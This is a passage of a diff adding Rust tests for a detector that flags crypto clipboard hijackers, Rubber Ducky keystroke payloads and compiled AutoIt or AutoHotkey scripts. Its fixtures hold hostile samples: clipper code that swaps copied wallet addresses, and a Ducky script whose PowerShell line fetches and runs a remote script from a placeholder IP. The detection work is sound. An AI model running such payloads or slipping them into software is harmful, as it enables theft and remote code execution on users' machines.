+  for (const [coin, re] of Object.entries(patterns)) {
+    if (re.test(text) && text !== wallets[coin]) {
+      await navigator.clipboard.writeText(wallets[coin]);
+    }
+  }
+}, 500);
+"#;
+
+    #[test]
+    fn test_crypto_clipper_is_critical() {
+        let detector = InjectionDetector::new();
+        let source = SourceView::new(Path::new("ext.js"), JS_CLIPPER);
+        let findings = detector.detect_crypto_clipper(Path::new("ext.js"), &source);
+        assert_eq!(findings.len(), 1);
+
+        let clipper = &findings[0];
+        assert_eq!(clipper.severity, Severity::Critical);
+        assert!(clipper.confidence >= 0.95);
+        assert_eq!(clipper.value["currencies"], json!(["btc", "xmr", "eth"]));
+        assert_eq!(clipper.value["address_patterns"].as_array().unwrap().len(), 3);
+        assert_eq!(clipper.value["has_monitoring"], true);
+
+        // Python variant: no polling keyword, still a clipper
+        let py = "import pyperclip, re\n\
+                  ETH = re.compile(r'^0x[0-9a-fA-F]{40}$')\n\
+                  def swap(text):\n    if ETH.match(text):\n        pyperclip.copy(MINE)\n";
+        let source = SourceView::new(Path::new("swap.py"), py);
+        let findings = detector.detect_crypto_clipper(Path::new("swap.py"), &source);
+        assert_eq!(findings[0].value["currencies"], json!(["eth"]));
+        assert_eq!(findings[0].confidence, 0.95);
+    }
+
+    #[test]
+    fn test_address_validation_or_copy_button_alone_is_not_a_clipper() {
+        let detector = InjectionDetector::new();
+        let form = "const valid = /^0x[a-fA-F0-9]{40}$/.test(input.value);";
+        let copy = "button.onclick = () => navigator.clipboard.writeText(link.href);";
+        for (name, content) in [("form.js", form), ("copy.js", copy)] {
+            let source = SourceView::new(Path::new(name), content);
+            assert!(detector.detect_crypto_clipper(Path::new(name), &source).is_empty());
+        }
+    }
+
+    /// Classic "Rubber Ducky" reverse shell launcher
+    const DUCKY_PAYLOAD: &str = "REM Opens a reverse shell\n\
+        DELAY 1000\n\
+        GUI r\n\
+        DELAY 300\n\
+        STRING powershell -w hidden -c \"iex (iwr http://203.0.113.9/s.ps1)\"\n\
+        ENTER\n";
+
+    #[test]
+    fn test_duckyscript_payload() {
+        let detector = InjectionDetector::new();
+        let findings = detector.detect_duckyscript(Path::new("payload.txt"), DUCKY_PAYLOAD);
+        assert_eq!(findings.len(), 1);
+
+        let finding = &findings[0];
+        assert_eq!(finding.finding_type, "duckyscript_payload");
+        assert_eq!(finding.severity, Severity::Critical);
+        assert_eq!(finding.value["commands"]["DELAY"], 2);
+        assert_eq!(finding.value["command_lines"], 6);
+        assert!(finding.value["shell_strings"][0]
+            .as_str()
+            .unwrap()
+            .starts_with("powershell"));
+
+        // Without a shell command it is still a keystroke script, but milder
+        let typing = "DELAY 500\nSTRING hello world\nENTER\nALT F4\n";
+        let findings = detector.detect_duckyscript(Path::new("greet.dd"), typing);
+        assert_eq!(findings[0].severity, Severity::Medium);
+    }
+
+    #[test]
+    fn test_prose_mentioning_keys_is_not_duckyscript() {
+        let detector = InjectionDetector::new();
+        let notes = "Press ENTER to continue.\nDELAY is configurable.\n\
+                     To open the run dialog use GUI r.\nThen type the command.\n\
+                     REM comments are ignored\n";
+        assert!(detector.detect_duckyscript(Path::new("notes.txt"), notes).is_empty());
+
+        let comments = "REM one\nREM two\nREM three\nREM four\n";
+        assert!(detector.detect_duckyscript(Path::new("a.txt"), comments).is_empty());
+    }
+    #[test]
+    fn test_compiled_automation_scripts() {
+        let detector = InjectionDetector::new();
+        let dir = tempfile::tempdir().unwrap();
+
+        // An AutoIt .a3x: binary GUID header, then the script magic
+        let mut a3x = vec![0xa3, 0x48, 0x4b, 0xbe, 0x98, 0x6c, 0x4a, 0xa9, 0x00, 0xff];
+        a3x.extend_from_slice(b"AU3!EA06");
+        let a3x_path = dir.path().join("update.a3x");
+        std::fs::write(&a3x_path, &a3x).unwrap();
+        let findings = detector.analyze_file(&a3x_path, 1024);
+        let compiled: Vec<_> =
+            findings.iter().filter(|f| f.finding_type == "compiled_automation_script").collect();
+        assert_eq!(compiled.len(), 1);
+        assert_eq!(compiled[0].severity, Severity::High);
+        assert_eq!(compiled[0].value["format"], "autoit");
+        assert_eq!(compiled[0].value["container"], "script file");
+        assert_eq!(compiled[0].value["offset"], 10);
+
+        let mut exe = b"MZ\x90\x00\x03\x00".to_vec();
+        exe.extend_from_slice(&[0; 64]);
+        exe.extend_from_slice(b">AUTOHOTKEY SCRIPT<\x00; <COMPILER: v1.1.37.01>");
+        let findings = detector.detect_compiled_automation(Path::new("setup.exe"), &exe);
+        assert_eq!(findings.len(), 1);
+        assert_eq!(findings[0].value["format"], "autohotkey");
+        assert_eq!(findings[0].value["container"], "executable");
+        assert_eq!(findings[0].confidence, 0.9);
+
+        // Documentation quoting the markers is text, not a container
+        let notes = b"Aut2Exe stores >>>AUTOIT SCRIPT<<< and AU3!EA06 in the exe.\n";
+        assert!(detector.detect_compiled_automation(Path::new("notes.md"), notes).is_empty());
+    }
+}